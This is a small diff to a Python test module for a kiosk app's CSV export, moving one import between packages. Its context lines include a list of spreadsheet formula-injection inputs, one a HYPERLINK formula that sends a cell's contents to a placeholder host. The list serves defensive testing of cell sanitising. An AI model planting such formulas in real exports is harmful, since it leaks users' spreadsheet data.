@@ -10,9 +10,9 @@ from zoneinfo import ZoneInfo
 from hypothesis import given
 from hypothesis import strategies as st
 
+from kiosk.core.members import NewMember
 from kiosk.domain.spreadsheet import FORMULA_STARTS, safe_cell
 from kiosk.services.exports import visits_csv
-from kiosk.services.members import NewMember
 
 # Names are stored stripped, so a leading tab or CR never reaches the export (safe_cell covers them).
 NASTY = ['=HYPERLINK("http://x.example/?"&A1,"Klik")', "+45 12 34", "-2+3", "@SUM(A1:A9)"]
